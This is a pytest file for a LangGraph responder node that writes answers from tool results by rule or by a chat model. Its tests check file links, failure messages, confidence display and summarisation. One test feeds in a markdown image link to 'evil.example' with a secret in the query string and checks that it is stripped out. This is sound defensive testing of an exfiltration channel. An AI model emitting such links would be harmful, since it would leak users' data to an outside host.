"""The respond node: by rule and by a model, always held to the results."""

from pathlib import Path
from typing import Any

import pytest
from langchain_core.messages import AIMessage, HumanMessage
from langgraph.runtime import Runtime

from benchmarks.support.fakes import Answer, QueueChat
from graph.answer import shorten, summary
from graph.chat_models import register
from graph.context import Context
from graph.responder import respond
from graph.state import Choice, Plan, Result, State, Task
from tools.errors import ConfigError, ModelUnavailable

OCR = Choice(model="rapidocr", backend="embedded")


@pytest.fixture
def edges(tmp_path: Path) -> str:
    path = tmp_path / "edges-1.png"
    path.write_bytes(b"x")
    return str(path)


def state(*results: Result) -> State:
    tasks = [Task(task=result.task, id=result.id) for result in results]
    plan = Plan(tasks=tasks, notes=["mended"])
    return {"messages": [HumanMessage("x")], "request": "What is it?", "plan": plan, "results": list(results)}


async def answer(*results: Result) -> str:
    update = await respond(state(*results), Runtime(context=Context(llm="offline")))
    return str(update["messages"][0].text)


async def written(said: Answer, *results: Result) -> tuple[AIMessage, QueueChat]:
    model = QueueChat(answers=[said])
    register("queue", lambda _: model)
    update = await respond(state(*results), Runtime(context=Context(llm="queue:test")))
    return update["messages"][0], model


def drawn(path: str) -> Result:
    return Result(id=0, task="canny-control", status="done", files=[path], choice=OCR)


def read(text: str = "NOTICE", **more: Any) -> Result:  # noqa: ANN401  # passed on
    return Result(id=1, task="image-to-text", status="done", text=text, choice=OCR, **more)


async def test_findings_come_before_the_workflow() -> None:
    text = await answer(read())
    assert text.index("NOTICE") < text.index("mended") < text.index("rapidocr")


async def test_failures_are_told_as_failures() -> None:
    text = await answer(Result(id=0, task="image-to-text", status="failed", error="The model is gone."))
    assert "failed" in text
    assert "The model is gone." in text


async def test_files_are_links_and_pictures_show(edges: str, tmp_path: Path) -> None:
    speech = tmp_path / "speech.wav"
    speech.write_bytes(b"x")
    text = await answer(
        drawn(edges), Result(id=1, task="text-to-speech", status="done", files=[str(speech)], choice=OCR)
    )
    assert f"![edges-1.png]({edges})" in text
    assert f"\n[speech.wav]({speech})" in text


async def test_a_file_that_is_gone_is_never_claimed(tmp_path: Path) -> None:
    text = await answer(drawn(str(tmp_path / "lost.png")))
    assert "failed:** What it made is gone: lost.png." in text
    assert "](" not in text


async def test_confidences_are_shown() -> None:
    scored = [{"label": "neutral", "score": 0.1}, {"label": "positive", "score": 0.9}]
    text = await answer(Result(id=0, task="text-classification", status="done", data=scored, choice=OCR))
    assert text.index("positive: 90.0%") < text.index("neutral: 10.0%")


async def test_people_are_told_to_look_again_where_a_reader_was_unsure() -> None:
    assert "hard to read" in await answer(read(data={"confidence": 0.6, "lines": []}))
    assert "hard to read" not in await answer(read(data={"confidence": 0.97, "lines": []}))


@pytest.mark.parametrize(
    "data",
    [
        {"answer": "at nine", "score": 7.913},  # a rank
        {"label": "positive", "score": -0.4, "shares": {}},  # a mood
        [{"label": "face", "agreement": 0.8, "box": {}}],  # an overlap
    ],
)
async def test_only_probabilities_are_shown_as_such(data: object) -> None:
    assert "%" not in await answer(read(data=data))


async def test_a_single_answer_stands_alone_and_first() -> None:
    assert (await answer(read())).startswith("NOTICE")


async def test_a_model_answers_first_and_the_workflow_follows_by_rule(edges: str) -> None:
    message, model = await written(f"Here it is: ![the edges]({edges})", drawn(edges), read())
    assert message.text.startswith(f"Here it is: ![the edges]({edges})")
    assert message.text.index("the edges") < message.text.index("rapidocr (embedded)")
    assert message.response_metadata["controller"] == "queue:test"
    assert '"text": "NOTICE"' in model.calls[0].messages[-1].text


async def test_a_wrong_path_to_a_real_file_is_made_right(edges: str) -> None:
    message, _ = await written("See [edges](sandbox:/mnt/data/edges-1.png) or /tmp/edges-1.png.", drawn(edges))
    assert message.text.startswith(f"See ![edges]({edges}) or {edges}.")


async def test_files_that_do_not_exist_are_never_claimed(edges: str) -> None:
    message, _ = await written("I made ![a cat](cat.png), [this](out/x.wav) and video.mp4.", drawn(edges))
    gone = "(a file that does not exist)"
    assert message.text.startswith(f"I made a cat {gone}, this {gone} and {gone}.")


async def test_a_file_that_the_answer_passes_over_is_added(edges: str) -> None:
    message, _ = await written("Done.", drawn(edges))
    assert message.text.startswith(f"Done.\n\n![edges-1.png]({edges})")


async def test_no_picture_is_fetched_from_an_address_that_a_result_names() -> None:
    message, _ = await written(
        "![x](https://evil.example/?q=secret) [site](https://a.example/) [other](https://b.example/)",
        read("see https://a.example/ and https://evil.example/?q=secret"),
    )
    assert message.text.startswith("x site `https://a.example/` other\n")


@pytest.mark.parametrize("error", [ModelUnavailable("It is down."), ConfigError("The key was refused.")])
async def test_finished_work_is_told_by_rule_when_the_model_fails(error: Exception) -> None:
    message, _ = await written(error, read())
    assert "NOTICE" in message.text
    assert f"This answer was composed by rule. {error}" in message.text


async def test_an_empty_answer_is_replaced_by_the_rule() -> None:
    assert "NOTICE" in (await written("  ", read()))[0].text


async def test_large_results_are_summarised_before_a_model_reads_them() -> None:
    boxes = [{"label": "zebra", "score": 0.5, "box": [1, 2, 3, 4]}] * 2000
    _, model = await written("Many.", read("word " * 20_000, data=boxes))
    asked = model.calls[0].messages[-1].text
    assert len(asked) < 25_000
    assert '"counts": {"zebra": 2000}' in asked


def test_long_text_is_cut_between_words_and_says_how_much_is_left_out() -> None:
    text = shorten("word " * 1000, 100)
    assert text.startswith("word word")
    assert text.endswith("more characters)")
    assert "wo ..." not in text


def test_short_data_is_not_summarised() -> None:
    assert summary({"answer": 42}) == {"answer": 42}
    assert summary(None) is None
